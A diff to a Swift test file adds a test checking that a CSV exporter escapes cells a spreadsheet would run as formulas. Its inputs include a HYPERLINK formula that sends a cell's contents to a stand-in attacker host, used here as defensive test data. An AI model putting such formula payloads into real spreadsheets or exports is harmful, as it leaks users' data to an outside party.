@@ -57,6 +57,20 @@ struct ExportWriterTests {
         #expect(reread.first?.metadata == [:])
     }
 
+    @Test("CSV cells that a spreadsheet would run as a formula are written as text", arguments: [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(1)", "\tindent", "\rreturn",
+        "=1,2",
+    ])
+    func csvFormulas(text: String) throws {
+        let csv = try export(.csv, [record(1, text: text)])
+        let cell = try #require(csv.split(separator: "\r\n").dropFirst().first.map(String.init))
+        let fields = cell.split(separator: ",", maxSplits: 3).map(String.init)
+        let textCell = fields[2].hasPrefix("\"") ? String(fields[2].dropFirst()) : fields[2]
+        #expect(textCell.hasPrefix("'"), "\(cell)")
+        let reread = try QueryFileReader.parse(Data(csv.utf8), format: .csv, file: "export.csv")
+        #expect(reread.first?.text == "'" + text)
+    }
+
     @Test("JSONL is one object a line and reads back with the importer")
     func jsonlRoundTrip() throws {
         let text = try export(.jsonl, [record(1, text: "a"), record(2, text: "b")])
